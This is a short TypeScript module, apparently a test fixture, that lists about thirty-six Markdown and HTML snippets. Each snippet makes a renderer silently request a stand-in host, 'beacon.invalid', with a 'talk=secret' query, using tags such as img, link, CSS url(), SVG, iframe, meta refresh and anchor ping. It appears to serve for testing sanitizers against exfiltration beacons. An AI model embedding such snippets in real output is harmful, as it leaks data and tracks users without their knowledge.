// What fetches something from outside as soon as it is shown, so that somebody learns that it was, and what stands beside it.
/** Nothing answers there. */
export const beaconHost = 'beacon.invalid';

const address = `https://${beaconHost}/NUMBER?talk=secret`;

/** Some thirty. */
export const beacons: readonly string[] = [
  `![](${address})`,
  `![picture](${address} "title")`,
  `![picture][NUMBER]\n\n[NUMBER]: ${address}`,
  `[![picture](${address})](https://slack.com)`,
  `<img src="${address}">`,
  `<img srcset="${address} 2x">`,
  `<img src=x style="background:url(${address})">`,
  `<picture><source srcset="${address}"><img></picture>`,
  `<video poster="${address}"></video>`,
  `<video src="${address}" autoplay></video>`,
  `<audio src="${address}" autoplay></audio>`,
  `<track src="${address}">`,
  `<input type=image src="${address}">`,
  `<table background="${address}"><td background="${address}">x</table>`,
  `<body background="${address}">`,
  `<div style="background-image:url('${address}')">x</div>`,
  `<style>@import url(${address});</style>`,
  `<style>*{background:url(${address})}</style>`,
  `<style>@font-face{font-family:x;src:url(${address})}*{font-family:x}</style>`,
  `<link rel=stylesheet href="${address}">`,
  `<link rel=preload as=image href="${address}">`,
  `<link rel=dns-prefetch href="${address}">`,
  `<link rel=icon href="${address}">`,
  `<link rel=prefetch href="${address}">`,
  `<iframe src="${address}"></iframe>`,
  `<object data="${address}"></object>`,
  `<embed src="${address}">`,
  `<script src="${address}"></script>`,
  `<svg><image href="${address}"/></svg>`,
  `<svg><use href="${address}#x"/></svg>`,
  `<svg><feImage href="${address}"/></svg>`,
  `<math><mtext><img src="${address}"></mtext></math>`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<a href="https://slack.com" ping="${address}">x</a>`,
  `<form action="${address}"><input autofocus></form>`,
  `<!--[if gte IE 4]><img src="${address}"><![endif]-->`,
];
